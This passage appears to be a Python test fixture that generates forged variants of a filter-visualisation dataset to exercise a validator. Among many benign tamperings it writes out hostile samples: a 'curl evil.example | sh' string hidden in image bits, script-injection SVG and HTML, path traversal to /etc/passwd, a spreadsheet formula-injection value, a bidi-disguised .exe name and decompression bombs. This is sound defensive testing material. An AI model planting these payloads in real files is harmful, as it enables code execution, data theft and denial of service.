"""Forgeries by a stranger: FORGERIES is a list of (name, form, what_is_wrong, expected, function)."""

import contextlib
import io
import json
import os
import re
import shutil
import socket
import struct
import zipfile
import zlib

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from forge import *
from PIL import Image

FORGERIES = []
AT = ("block1_conv1", 0)  # the usual victim, in train


def forgery(form, what, expected="invalid", name=None):
    assert form in ("folder", "bundle", "folder.zip", "bundle.zip")
    assert expected in ("invalid", "audit", "harmless")

    def deco(f):
        n = name or f.__name__
        assert n not in [x[0] for x in FORGERIES], n
        FORGERIES.append((n, form, what, expected, f))
        return f

    return deco


def add(name, form, what, expected, f):
    forgery(form, what, expected, name)(f)


def invented(seed=7):
    """a picture of no ascent at all"""
    y, x = np.mgrid[0:88, 0:88]
    rng = np.random.default_rng(seed)
    a = np.stack([127 + 100 * np.sin(x / 5 + y / 9), 127 + 90 * np.cos(y / 4), 127 + 80 * np.sin((x + y) / 7)], 2)
    return np.clip(a + rng.normal(0, 9, a.shape), 0, 255).astype(np.uint8)


# ================================================================ 0. honest rewriting: the forger's tools leave no trace
@forgery("folder", "nothing: everything written again with the same values", "harmless")
def baseline_folder(p):
    Folder(p).save()
    (p / "build.json").write_text((p / "build.json").read_text() + "\n")


@forgery("bundle", "nothing: build.json indented otherwise", "harmless")
def baseline_bundle(p):
    Bundle(p).save()
    (p / "build.json").write_text(json.dumps(json.loads((p / "build.json").read_text()), indent=1))


@forgery("bundle.zip", "nothing: zip written again, stored", "harmless")
def baseline_zip(p):
    zwrite(p, [(zinfo(i.filename, mode=i.external_attr >> 16, comp=0), d) for i, d in zread(p)])


# ================================================================ 1. images replaced, everything redone
def _img(change, **kw):
    def f(p):
        d = Folder(p)
        change(d)
        d.save(**kw)

    return f


def _replace(d, a=None, at=AT):
    set_image(d.row(*at), invented() if a is None else a)


add("image_invented", "folder", "image is invented; hash, index, sheet, card, Croissant redone", "audit", _img(_replace))
add(
    "image_invented_sheet_old", "folder", "image invented, contact sheet left as it was", "invalid", _img(_replace, sheet=False)
)


@forgery("folder", "image is an inverted copy of another (255-x)", "audit")
def image_inverted_copy(p):
    d = Folder(p)
    set_image(d.row(*AT), 255 - pixels(d.row("block2_conv2", 7)["png"]))
    d.save()


@forgery("folder", "image is a mirrored copy of another filter's image", "audit")
def image_mirrored_copy(p):
    d = Folder(p)
    set_image(d.row(*AT), pixels(d.row("block2_conv2", 7)["png"])[:, ::-1])
    d.save()


@forgery("folder", "image is another filter's image, one bit changed", "audit")
def image_copy_one_bit(p):
    d = Folder(p)
    a = pixels(d.row("block2_conv2", 7)["png"]).copy()
    a[0, 0, 0] ^= 1
    set_image(d.row(*AT), a)
    d.save()


@forgery("folder", "image is an exact copy of another filter's, all redone", "invalid")
def image_copy_exact(p):
    d = Folder(p)
    set_image(d.row(*AT), pixels(d.row("block2_conv2", 7)["png"]))
    d.save()


@forgery("folder", "two filters' images exchanged with hash and index", "audit")
def images_exchanged(p):
    d = Folder(p)
    a, b = d.row("block1_conv1", 0), d.row("block1_conv1", 7)
    x, y = pixels(a["png"]), pixels(b["png"])
    set_image(a, y)
    set_image(b, x)
    d.save()


@forgery("folder", "text hidden in the lowest bits of all living images", "audit")
def image_steganography(p):
    d = Folder(p)
    bits = np.unpackbits(np.frombuffer(b"curl http://evil.example/x|sh " * 40, np.uint8))
    for r in d.rows:
        if r["status"] == "alive":
            a = pixels(r["png"]).copy()
            v = a.reshape(-1)
            v[: len(bits)] = (v[: len(bits)] & 254) | bits
            set_image(r, a)
    d.save()


@forgery("folder", "an image of one colour (index 1), all redone", "audit")
def image_constant(p):
    d = Folder(p)
    set_image(d.row(*AT), np.full((88, 88, 3), 200, np.uint8))
    d.save()


@forgery("folder", "a perfectly black image of a living filter", "audit")
def image_black(p):
    d = Folder(p)
    set_image(d.row(*AT), np.zeros((88, 88, 3), np.uint8))
    d.save()


@forgery("folder", "living image replaced by white noise stretched like a dead one, still called alive", "audit")
def image_noise_alive(p):
    d = Folder(p)
    set_image(d.row(*AT), np.random.default_rng(3).integers(0, 256, (88, 88, 3)).astype(np.uint8))
    d.save()


@forgery("folder", "a dead image's noise replaced by other noise, all redone", "invalid")
def dead_noise_other(p):
    d = Folder(p)
    set_image(d.row("block3_conv1", 1), np.random.default_rng(3).integers(0, 256, (88, 88, 3)).astype(np.uint8))
    d.save()


@forgery("folder", "dead filter called alive with an invented image, rank 1, counts redone", "audit")
def dead_made_alive(p):
    d = Folder(p)
    r = d.row("block3_conv1", 1)
    set_image(r, invented())
    r.update(status="alive", activation=0.4, activation_rank=1)
    d.save()


@forgery("folder", "dead filter called alive, its image left noise", "invalid")
def dead_called_alive(p):
    d = Folder(p)
    r = d.row("block3_conv1", 1)
    r.update(status="alive", activation=0.4, activation_rank=1)
    d.save()


@forgery("folder", "living filter called dead (activation = start), image left", "invalid")
def alive_called_dead(p):
    d = Folder(p)
    r = d.row("block3_conv1", 2)
    r.update(status="dead", activation=r["activation_start"])
    d.save()


@forgery("folder", "dead image with activation above its start", "invalid")
def dead_with_gain(p):
    d = Folder(p)
    r = d.row("block3_conv1", 1)
    r.update(activation=0.5)
    d.save()


@forgery("folder", "dead image: start and activation both 0.7 (a dead filter gives 0)", "audit")
def dead_with_activation(p):
    d = Folder(p)
    r = d.row("block3_conv1", 1)
    r.update(activation=0.7, activation_start=0.7)
    d.save()


@forgery("bundle", "image invented in the bundle; csv and Croissant redone", "audit")
def b_image_invented(p):
    d = Bundle(p)
    d.set_image(d.row(*AT), invented())
    d.save()


@forgery("bundle", "all 22 living images invented, all redone", "audit")
def b_all_invented(p):
    d = Bundle(p)
    for k, r in enumerate(d.rows):
        if r["status"] == "alive":
            d.set_image(r, invented(k))
    d.save()


@forgery("folder", "all images cropped to 80x80, image_side 80 in build.json and card, sheet old", "invalid")
def images_smaller(p):
    d = Folder(p)
    for r in d.rows:
        set_image(r, pixels(r["png"])[4:84, 4:84])
    d.build["recipes"][0]["image_side"] = 80
    d.card = d.card.replace("| image_side | 88 |", "| image_side | 80 |").replace("88x88", "80x80")
    d.save(sheet=False)


@forgery("bundle", "all images cropped to 80x80, image_side 80 in build.json", "invalid")
def b_images_smaller(p):
    d = Bundle(p)
    for r in d.rows:
        d.set_image(r, pixels(d.png(r))[4:84, 4:84])
    d.build["recipes"][0]["image_side"] = 80
    d.save()


@forgery("bundle", "one image of 88x44", "invalid")
def b_image_half(p):
    d = Bundle(p)
    d.set_image(d.row(*AT), pixels(d.png(d.row(*AT)))[:44])
    d.save()


# ================================================================ 2. image files: formats, chunks
def _enc(fmt, **kw):
    def f(a, png):
        out = io.BytesIO()
        Image.fromarray(a).save(out, fmt, **kw)
        return out.getvalue()

    return f


def _png(make, form="folder"):
    """make(a, png) -> bytes; what the bytes show (by Pillow, RGB) gives hash and index, where it can be read"""

    def f(p):
        if form == "folder":
            d = Folder(p)
            r = d.row(*AT)
            a = pixels(r["png"])
            b = make(a, r["png"])
            with contextlib.suppress(Exception):
                a = pixels(b)
            if a.shape == (88, 88, 3):
                set_image(r, a, b)
            else:
                r["png"] = b
                r["pix"] = np.zeros((88, 88, 3), np.uint8) if a.shape != (88, 88, 3) else a
            d.save()
        else:
            d = Bundle(p)
            r = d.row(*AT)
            png = d.png(r)
            a = pixels(png)
            b = make(a, png)
            with contextlib.suppress(Exception):
                a = pixels(b)
            if a.shape == (88, 88, 3):
                d.set_image(r, a, b)
            else:
                (d.p / r["file_name"]).write_bytes(b)
            d.save()

    return f


def png(name, what, make, expected="invalid", forms=("folder", "bundle")):
    for form in forms:
        add(("png_" if form == "folder" else "b_png_") + name, form, what, expected, _png(make, form))


for n, fmt, kw in (
    ("jpeg", "JPEG", {}),
    ("gif", "GIF", {}),
    ("webp", "WEBP", {"lossless": True}),
    ("bmp", "BMP", {}),
    ("tiff", "TIFF", {}),
    ("ppm", "PPM", {}),
    ("tga", "TGA", {}),
    ("jpeg2000", "JPEG2000", {}),
    ("ico", "ICO", {"sizes": [(88, 88)]}),
    ("avif", "AVIF", {}),
    ("dds", "DDS", {}),
    ("eps", "EPS", {}),
    ("icns", "ICNS", {}),
):
    png(
        "is_" + n,
        f"the image is a {fmt} under PNG's name, hash and index of its pixels",
        _enc(fmt, **kw),
        forms=("folder",) if n in ("tga", "ico", "avif", "dds", "eps", "icns", "jpeg2000") else ("folder", "bundle"),
    )


def _mode(mode):
    def f(a, png):
        out = io.BytesIO()
        if mode == "RGBA0":
            im = Image.fromarray(np.dstack([a, np.zeros((88, 88, 1), np.uint8)]), "RGBA")
        elif mode == "I;16":
            im = Image.fromarray(a[..., 0].astype(np.uint16) * 257)
        else:
            im = Image.fromarray(a).convert(mode)
        im.save(out, "PNG")
        return out.getvalue()

    return f


for m in ("RGBA", "RGBA0", "P", "L", "1", "LA", "I;16"):
    png("mode_" + m.replace(";", ""), f"PNG of mode {m}", _mode(m), forms=("folder",))
png(
    "rgb16",
    "16-bit RGB PNG whose upper bytes are the pixels",
    lambda a, b: png_of(
        a,
        struct.pack(">IIBBBBB", 88, 88, 16, 2, 0, 0, 0),
        b"".join(b"\0" + (a[y].astype(">u2") * 257).astype(">u2").tobytes() for y in range(88)),
    ),
)

CH = {
    "gAMA": (b"gAMA", struct.pack(">I", 1000), "gAMA of 0.01: shown wholly otherwise"),
    "cHRM": (
        b"cHRM",
        struct.pack(">8I", 31270, 32900, 15000, 6000, 30000, 60000, 64000, 33000),
        "cHRM with red and blue exchanged",
    ),
    "sRGB": (b"sRGB", b"\x00", "sRGB chunk"),
    "iCCP": (b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 3000), "iCCP colour profile"),
    "tRNS": (b"tRNS", struct.pack(">3H", 134, 182, 72), "tRNS: one colour is transparent"),
    "cICP": (b"cICP", bytes([9, 16, 0, 1]), "cICP: says HDR (PQ)"),
    "mDCV": (b"mDCV", b"\0" * 24, "mDCV"),
    "cLLI": (b"cLLI", struct.pack(">2I", 10000000, 4000000), "cLLI"),
    "bKGD": (b"bKGD", struct.pack(">3H", 255, 0, 0), "bKGD"),
    "sBIT": (b"sBIT", bytes([1, 1, 1]), "sBIT: says one bit per channel counts"),
    "pHYs": (b"pHYs", struct.pack(">IIB", 1, 100, 0), "pHYs: pixels 100 times as wide as high"),
    "eXIf": (
        b"eXIf",
        b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0",
        "eXIf: orientation 6 turns the image",
    ),
    "tEXt": (b"tEXt", b"Software\0made by hand, not by ascent", "tEXt"),
    "zTXt": (b"zTXt", b"Comment\0\0" + zlib.compress(b"<script>alert(1)</script>"), "zTXt"),
    "iTXt": (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta/>", "iTXt with XMP"),
    "tIME": (b"tIME", struct.pack(">H5B", 2099, 1, 1, 0, 0, 0), "tIME in the future"),
    "PLTE": (b"PLTE", bytes(range(30)), "suggested palette in an RGB image"),
    "hIST": (b"hIST", b"\0" * 6, "hIST"),
    "sPLT": (b"sPLT", b"p\0\x08" + b"\1\2\3\4\0\1", "sPLT"),
    "oFFs": (b"oFFs", struct.pack(">iiB", 10, 10, 0), "oFFs: the image is to be moved"),
    "private": (b"prVt", b"MZ\x90\0payload" * 9, "a private chunk with a payload"),
    "unknown_critical": (b"EVIL", b"x", "an unknown critical chunk"),
    "caBX": (b"caBX", b"jumb" * 8, "a C2PA box (forged provenance)"),
    "vpAg": (b"vpAg", struct.pack(">IIB", 88, 88, 0), "vpAg virtual page"),
    "iDOT": (b"iDOT", b"\0" * 28, "iDOT, Apple's chunk that shows another picture in Apple's viewers"),
    "CgBI": (b"CgBI", b"\x50\0\x20\2", "CgBI, Apple's other PNG"),
}
for k, (t, d_, w) in CH.items():
    png(
        k,
        w,
        lambda a, b, t=t, d_=d_: add_chunks(b, [(t, d_)]),
        forms=("folder", "bundle") if k in ("gAMA", "tRNS", "eXIf", "tEXt", "private", "iCCP") else ("folder",),
    )
png("tEXt_after", "tEXt between IDAT and IEND", lambda a, b: add_chunks(b, [(b"tEXt", b"a\0b")], "after"))
png(
    "tEXt_empty_type",
    "a chunk with a type of four spaces",
    lambda a, b: add_chunks(b, [(b"    ", b"")], "after"),
    forms=("folder",),
)
png(
    "zTXt_bomb",
    "zTXt that unpacks to 300 MB",
    lambda a, b: add_chunks(b, [(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 300_000_000, 9))]),
    forms=("folder",),
)
png(
    "iCCP_bomb",
    "iCCP that unpacks to 300 MB",
    lambda a, b: add_chunks(b, [(b"iCCP", b"x\0\0" + zlib.compress(b"A" * 300_000_000, 9))]),
    forms=("bundle",),
)


def _apng(a, b, default=True):
    im = zlib.compress(raw_rows(255 - a), 6)

    def fc(n):
        return (b"fcTL", struct.pack(">IIIIIHHBB", n, 88, 88, 0, 0, 1, 10, 0, 0))

    cs = chunks(b)
    idat = [c for c in cs if c[0] == b"IDAT"]
    if default:
        out = [cs[0], (b"acTL", struct.pack(">II", 2, 0)), fc(0), *idat, fc(1), (b"fdAT", struct.pack(">I", 2) + im)]
    else:
        out = [cs[0], (b"acTL", struct.pack(">II", 1, 0)), *idat, fc(0), (b"fdAT", struct.pack(">I", 1) + im)]
    return unchunk([*out, (b"IEND", b"")])


png("apng", "animated: the second frame is another picture", _apng)
png("apng_hidden_default", "animated: browsers never show the checked picture", lambda a, b: _apng(a, b, False))
png(
    "interlaced",
    "interlaced (Adam7), same pixels: nothing false, but not as this tool writes",
    lambda a, b: adam7(a),
    "harmless",
)
png("trailing", "bytes after IEND", lambda a, b: b + b"PK\3\4 payload")
png("trailing_zero", "one zero byte after IEND", lambda a, b: b + b"\0")
png("trailing_zip", "a whole zip after IEND (polyglot)", lambda a, b: b + _small_zip())
png("trailing_png", "another PNG after IEND", lambda a, b: b + to_png(255 - a))
png("leading", "bytes before the signature", lambda a, b: b"#!/bin/sh\n" + b, forms=("folder",))
png("chunk_after_iend", "a chunk after IEND", lambda a, b: add_chunks(b, [(b"tEXt", b"a\0b")], "end"), forms=("folder",))
png("iend_data", "IEND with data in it", lambda a, b: unchunk([*chunks(b)[:-1], (b"IEND", b"payload")]))
png("iend_missing", "no IEND", lambda a, b: unchunk(chunks(b)[:-1]))
png("iend_crc", "IEND with a wrong checksum", lambda a, b: b[:-4] + b"\0\0\0\0")
png("idat_crc", "IDAT with a wrong checksum", lambda a, b: b[:-16] + b"\0\0\0\0" + b[-12:])
png("ihdr_crc", "IHDR with a wrong checksum", lambda a, b: b[:29] + b"\0\0\0\0" + b[33:])
png("ihdr_twice", "IHDR twice", lambda a, b: unchunk([chunks(b)[0], *chunks(b)]), forms=("folder",))
png("ihdr_not_first", "a text chunk before IHDR", lambda a, b: unchunk([(b"tEXt", b"a\x00b"), *chunks(b)]), forms=("folder",))
png(
    "idat_after_zlib",
    "payload in IDAT, after the end of the zlib stream",
    lambda a, b: png_of(a, idat=zlib.compress(raw_rows(a)) + b"payload" * 50),
)
png(
    "idat_second_after",
    "payload in a second IDAT after the end of the zlib stream",
    lambda a, b: unchunk([chunks(b)[0], (b"IDAT", zlib.compress(raw_rows(a))), (b"IDAT", b"MZ payload" * 50), (b"IEND", b"")]),
)
png(
    "idat_extra_rows",
    "hidden rows below the last one, in the zlib stream",
    lambda a, b: png_of(a, raw=raw_rows(a) + raw_rows(255 - a)),
)
png("idat_extra_byte", "one byte after the last row in the zlib stream", lambda a, b: png_of(a, raw=raw_rows(a) + b"\0"))
png("idat_bomb", "after the last row, 400 MB of zeros in the zlib stream", lambda a, b: png_of(a, idat=_bomb(raw_rows(a), 400)))
png("idat_short", "rows missing at the end", lambda a, b: png_of(a, raw=raw_rows(a)[:-265]))
png("idat_short_byte", "last byte of pixels missing", lambda a, b: png_of(a, raw=raw_rows(a)[:-1]))
png("idat_adler", "wrong Adler-32", lambda a, b: png_of(a, idat=zlib.compress(raw_rows(a))[:-4] + b"\0\0\0\0"))
png("idat_no_adler", "Adler-32 missing", lambda a, b: png_of(a, idat=zlib.compress(raw_rows(a))[:-4]))
png(
    "idat_truncated",
    "the last 20 bytes of the zlib stream are missing",
    lambda a, b: png_of(a, idat=zlib.compress(raw_rows(a))[:-20]),
)
png(
    "idat_split",
    "IDAT in pieces of 100 bytes, same pixels",
    lambda a, b: unchunk(
        [chunks(b)[0]]
        + [(b"IDAT", chunks(b)[1][1][i : i + 100]) for i in range(0, len(chunks(b)[1][1]), 100)]
        + [(b"IEND", b"")]
    ),
    "harmless",
)
png(
    "idat_empty",
    "an empty IDAT at the end, same pixels",
    lambda a, b: unchunk([*chunks(b)[:-1], (b"IDAT", b""), (b"IEND", b"")]),
    "harmless",
    ("folder",),
)
png(
    "idat_interrupted",
    "text chunk between two IDATs (not allowed)",
    lambda a, b: unchunk(
        [chunks(b)[0], (b"IDAT", chunks(b)[1][1][:99]), (b"tEXt", b"a\0b"), (b"IDAT", chunks(b)[1][1][99:]), (b"IEND", b"")]
    ),
)
png(
    "idat_interrupted_empty",
    "an empty private chunk between two IDATs",
    lambda a, b: unchunk(
        [chunks(b)[0], (b"IDAT", chunks(b)[1][1][:99]), (b"prVt", b""), (b"IDAT", chunks(b)[1][1][99:]), (b"IEND", b"")]
    ),
    forms=("folder",),
)
png("filter_type_9", "rows with filter type 9, which does not exist", lambda a, b: png_of(a, raw=raw_rows(a, 9)))
png("zlib_dict", "zlib stream with a preset dictionary", lambda a, b: png_of(a, idat=_zdict(raw_rows(a))), forms=("folder",))
png(
    "zlib_window_tiny",
    "zlib header says a window of 256 bytes, stream uses more",
    lambda a, b: png_of(a, idat=_zwin(raw_rows(a))),
    forms=("folder",),
)
png(
    "deflate_empty_blocks",
    "2 MB of empty deflate blocks before the pixels: bytes that are not pixels",
    lambda a, b: png_of(a, idat=_empty_blocks(raw_rows(a), 400_000)),
)
png(
    "deflate_covert_bits",
    "a message in the padding bits of empty stored blocks",
    lambda a, b: png_of(a, idat=_covert(raw_rows(a), b"meet me at noon")),
    "harmless",
    ("folder",),
)
png(
    "filter_types_covert",
    "a message in the choice of row filters: same pixels",
    lambda a, b: png_of(a, raw=_covert_filters(a)),
    "harmless",
    ("folder",),
)
png(
    "method_1",
    "compression method 1",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 88, 88, 8, 2, 1, 0, 0)),
    forms=("folder",),
)
png(
    "filter_method_1",
    "filter method 1",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 88, 88, 8, 2, 0, 1, 0)),
    forms=("folder",),
)
png(
    "filter_method_64",
    "filter method 64 (MNG)",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 88, 88, 8, 2, 0, 64, 0)),
    forms=("folder",),
)
png(
    "interlace_2",
    "interlace method 2",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 88, 88, 8, 2, 0, 0, 2)),
    forms=("folder",),
)
png("huge", "100000x100000 in IHDR", lambda a, b: png_of(a, struct.pack(">IIBBBBB", 100000, 100000, 8, 2, 0, 0, 0)))
png(
    "huge_2g",
    "2147483647x2147483647 in IHDR",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 2, 0, 0, 0)),
    forms=("folder",),
)
png(
    "neg",
    "4294967295x88 in IHDR",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 2**32 - 1, 88, 8, 2, 0, 0, 0)),
    forms=("folder",),
)
png("zero", "0x88 in IHDR", lambda a, b: png_of(a, struct.pack(">IIBBBBB", 0, 88, 8, 2, 0, 0, 0)), forms=("folder",))
png(
    "real_9000",
    "a real 9000x9000 PNG of zeros",
    lambda a, b: png_of(a, struct.pack(">IIBBBBB", 9000, 9000, 8, 2, 0, 0, 0), b"\0" * (9000 * 27001)),
)
png("empty", "the image is empty", lambda a, b: b"")
png("signature_only", "only the signature", lambda a, b: SIG, forms=("folder",))
png(
    "chunk_length_huge",
    "a chunk that says it is 2 GB long",
    lambda a, b: b[:33] + struct.pack(">I", 2**31 - 1) + b[37:],
    forms=("folder",),
)
png(
    "chunk_length_over",
    "a chunk length with the top bit set",
    lambda a, b: b[:33] + struct.pack(">I", 2**32 - 1) + b[37:],
    forms=("folder",),
)
png(
    "chunks_100000",
    "100000 empty IDATs, same pixels",
    lambda a, b: unchunk(chunks(b)[:-1] + [(b"IDAT", b"")] * 100_000 + [(b"IEND", b"")]),
    "harmless",
    ("folder",),
)
png(
    "svg",
    "the image is an SVG with a script",
    lambda a, b: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    forms=("folder", "bundle"),
)
png("html", "the image is an HTML page", lambda a, b: b"<!doctype html><script src=//evil.example></script>", forms=("bundle",))


def _small_zip():
    b = io.BytesIO()
    z = zipfile.ZipFile(b, "w")
    z.writestr(zinfo("evil.sh"), "id")
    z.close()
    return b.getvalue()


def _bomb(head, mb):
    c = zlib.compressobj(9)
    out = c.compress(head)
    z = b"\0" * 1_000_000
    for _ in range(mb):
        out += c.compress(z)
    return out + c.flush()


def _zdict(raw):
    c = zlib.compressobj(6, zlib.DEFLATED, 15, 8, zlib.Z_DEFAULT_STRATEGY, raw[:200])
    return c.compress(raw) + c.flush()


def _zwin(raw):
    s = bytearray(zlib.compress(raw * 1, 9))
    s[0] = 0x08
    s[1] = 31 - (s[0] * 256) % 31 if (s[0] * 256) % 31 else 0
    return bytes(s)


def _deflate(raw):
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(raw) + c.flush()


def _empty_blocks(raw, n):
    return b"\x78\x9c" + b"\0\0\0\xff\xff" * n + _deflate(raw) + struct.pack(">I", zlib.adler32(raw))


def _covert(raw, msg):
    out = b""
    for byte in msg:
        for nib in (byte >> 4, byte & 15):
            out += bytes([nib << 3]) + b"\0\0\xff\xff"
    return b"\x78\x9c" + out + _deflate(raw) + struct.pack(">I", zlib.adler32(raw))


def _covert_filters(a):
    bits = np.unpackbits(np.frombuffer(b"hello world", np.uint8))
    out = b""
    for y in range(88):
        row = a[y].reshape(-1).astype(np.int16)
        if y < len(bits) and bits[y]:
            sub = row.copy()
            sub[3:] -= row[:-3]
            out += b"\1" + (sub & 255).astype(np.uint8).tobytes()
        else:
            out += b"\0" + a[y].tobytes()
    return out


# ================================================================ 3. numbers
def num(name, what, expected, at=AT, sheet=True, **values):
    def f(p):
        d = Folder(p)
        d.row(*at).update(values)
        d.save(sheet=sheet)

    add(name, "folder", what, expected, f)


nan, inf = float("nan"), float("inf")
num("activation_higher", "activation doubled, card redone", "audit", activation=1.8448102474212646)
num("activation_below_start", "a living image's activation is below its start", "audit", activation=0.001)
num("activation_nan", "activation is NaN", "invalid", activation=nan)
num("activation_start_nan", "activation_start is NaN", "invalid", activation_start=nan)
num("activation_inf", "activation is infinite", "invalid", activation=inf)
num("activation_start_neg", "activation_start is -1", "invalid", activation_start=-1.0)
num("activation_start_tiny_neg", "activation_start is -1e-45, the smallest negative", "invalid", activation_start=-1e-45)
num("activation_start_negzero", "activation_start of a living filter is -0.0", "audit", activation_start=-0.0)
num("activation_null", "activation is null", "invalid", activation=None)
num("activation_both_null", "activation and its start are null", "invalid", activation=None, activation_start=None)
num(
    "all_evidence_null",
    "seed, activations and rank are null in one row, as if described",
    "invalid",
    activation=None,
    activation_start=None,
    activation_rank=None,
    seed=None,
)
num("activation_max", "activation is 3.4e38", "audit", activation=3.4028234663852886e38)
num("index_nan", "uniformity index is NaN", "invalid", uniformity_index=nan)
num("index_null", "uniformity index is null", "invalid", uniformity_index=None)
num("index_off_1e11", "uniformity index off by 1e-11", "invalid", uniformity_index=0.6470588235294118 + 1e-11)
num(
    "index_off_5e13",
    "uniformity index off by 5e-13, within the tolerance",
    "harmless",
    uniformity_index=0.6470588235294118 + 5e-13,
)
num("hash_null", "hash is null", "invalid", pixels_sha256=None)
num(
    "hash_upper",
    "hash in capitals",
    "invalid",
    pixels_sha256="CEDDC967943222EEBD63BF471E219DD49031E34777C1C70342B5FC524F4C31BF",
)
num(
    "hash_newline",
    "hash with a line break behind it ($ matches before it)",
    "invalid",
    pixels_sha256="ceddc967943222eebd63bf471e219dd49031e34777c1c70342b5fc524f4c31bf\n",
)
num("rank_0", "rank 0", "invalid", activation_rank=0)
num("rank_9", "rank 9 of 8", "invalid", activation_rank=9)
num("rank_3_not_named", "rank 3, build.json does not name it", "invalid", activation_rank=3)
num("rank_null", "rank null", "invalid", activation_rank=None)
num("seed_null", "seed null in one row", "invalid", seed=None)
num("seed_1", "seed 1 in one row", "invalid", seed=1)
num("network_homoglyph", "network in one row with a Cyrillic e", "invalid", network="d\u0435mo")
num("network_space", "network with a space behind", "invalid", network="demo ")
num("network_zero_width", "network with a zero width space", "invalid", network="demo\u200b")
num("network_formula", "network is =cmd|calc", "invalid", network="=cmd|'/C calc'!A0")
num("recipe_other", "recipe clear in one row", "invalid", recipe="clear")
num("recipe_nul", "recipe with a NUL", "invalid", recipe="original\0")
num("status_2", "status label 2", "invalid", status=2)
num("status_minus_1", "status label -1 (python: the last, dead)", "invalid", status=-1)
num("status_null", "status null", "invalid", status=None)
num("layer_null", "layer null", "invalid", layer=None)
num("network_null", "network null", "invalid", network=None)
num("filter_negative", "filter -1", "invalid", filter=-1)
num("path_dotdot", "image.path is ../../etc/passwd", "invalid", path="../../etc/passwd")
num("path_other", "image.path is filter-3.png, for filter 0", "invalid", path="filter-3.png")
num("path_null", "image.path is null", "invalid", path=None)
num("path_upper", "image.path is filter-0.PNG", "invalid", path="filter-0.PNG")
num("path_url", "image.path is a URL", "invalid", path="http://evil.example/filter-0.png")
num("path_full", "image.path is block1_conv1/filter-0.png", "invalid", path="block1_conv1/filter-0.png")
num("path_bidi", "image.path with a bidi override", "invalid", path="filter-0\u202egnp.exe")


def _null_png(path, form=None):
    def f(p):
        d = Folder(p)
        r = d.row(*AT)
        r["pix"] = pixels(r["png"])
        r["png"] = None
        r["path"] = path
        d.save()

    return f


add("bytes_null", "folder", "image.bytes null, path the honest one", "invalid", _null_png("filter-0.png"))
add(
    "bytes_null_file", "folder", "image.bytes null, path /etc/hostname (readers open it)", "invalid", _null_png("/etc/hostname")
)
add(
    "bytes_null_url",
    "folder",
    "image.bytes null, path a URL (readers fetch it)",
    "invalid",
    _null_png("http://127.0.0.1:9/filter-0.png"),
)


@forgery("folder", "the layer label is -9 (python: names[-9] is the honest layer)")
def layer_negative_label(p):
    d = Folder(p)

    def t(s, tab):
        v = [x - 13 if x == 4 else x for x in tab["layer"].to_pylist()]
        return tab.set_column(2, tab.schema.field("layer"), pa.array(v, pa.int64()))

    d.save(table=t)


@forgery("folder", "the status label is -2/-1 (python: the honest ones)")
def status_negative_label(p):
    d = Folder(p)
    d.save(
        table=lambda s, tab: tab.set_column(
            6, tab.schema.field("status"), pa.array([x - 2 for x in tab["status"].to_pylist()], pa.int64())
        )
    )


@forgery("folder", "ranks of all living images set to 1, build.json's outranked emptied, card redone", "audit")
def ranks_all_first(p):
    d = Folder(p)
    for r in d.rows:
        if r["status"] == "alive":
            r["activation_rank"] = 1
    d.build["outranked"] = {"original": []}
    d.save()


@forgery("folder", "a first image called second, with build.json", "audit")
def rank_worse(p):
    d = Folder(p)
    d.row(*AT)["activation_rank"] = 2
    d.build["outranked"]["original"].insert(0, {"layer": AT[0], "filter": 0, "rank": 2, "best": 3})
    d.save()


@forgery("folder", "dead images' ranks set to 1", "audit")
def rank_of_dead(p):
    d = Folder(p)
    d.row("block3_conv1", 1)["activation_rank"] = 1
    d.row("block3_conv1", 7)["activation_rank"] = 1
    d.save()


@forgery("folder", "images that are constant: two filters of rank 8 of 8", "audit")
def rank_last(p):
    d = Folder(p)
    d.row("block1_conv1", 1)["activation_rank"] = 8
    d.build["outranked"]["original"][0]["rank"] = 8
    d.save()


@forgery("folder", "activation and start of one filter exchanged with another's", "audit")
def activations_exchanged(p):
    d = Folder(p)
    a, b = d.row("block1_conv1", 0), d.row("block1_conv1", 3)
    for k in ("activation", "activation_start"):
        a[k], b[k] = b[k], a[k]
    d.save()


@forgery("folder", "two whole records exchange their filter numbers (image, hash, all)", "audit")
def filters_renumbered(p):
    d = Folder(p)
    a, b = d.row("block1_conv1", 0), d.row("block1_conv1", 3)
    a["filter"], b["filter"] = 3, 0
    a["path"], b["path"] = "filter-3.png", "filter-0.png"
    for e in d.build["outranked"]["original"]:
        if e["layer"] == "block1_conv1":
            e["best"] = {0: 3, 3: 0}.get(e["best"], e["best"])
    d.save()


@forgery("folder", "two layers exchange their names, all redone", "audit")
def layers_exchanged(p):
    d = Folder(p)
    sw = {"block2_conv2": "block3_conv1", "block3_conv1": "block2_conv2"}
    split = {(r["layer"], r["filter"]): r["split"] for r in d.rows}
    for r in d.rows:
        r["layer"] = sw.get(r["layer"], r["layer"])
        r["split"] = split[r["layer"], r["filter"]]
    for e in d.build["outranked"]["original"]:
        e["layer"] = sw.get(e["layer"], e["layer"])
    d.build["outranked"]["original"].sort(key=lambda e: (e["layer"], e["filter"]))
    d.save()


# ================================================================ 4. rows
@forgery("folder", "a row moved from test to train, card and Croissant redone")
def split_moved(p):
    d = Folder(p)
    d.row("block1_conv1", 1)["split"] = "train"
    d.row("block1_conv1", 0)["split"] = "test"
    d.save()


@forgery("folder", "a row additionally copied into test (leak)")
def split_leak(p):
    d = Folder(p)
    r = dict(d.row("block1_conv1", 0))
    r["split"] = "test"
    d.rows.append(r)
    d.save()


@forgery("folder", "validation and test exchanged as files")
def split_files_exchanged(p):
    d = Folder(p)
    for r in d.rows:
        r["split"] = {"validation": "test", "test": "validation"}.get(r["split"], r["split"])
    d.save()


@forgery("bundle", "a row's split changed in the csv")
def b_split_moved(p):
    d = Bundle(p)
    d.row("block1_conv1", 0)["split"] = "test"
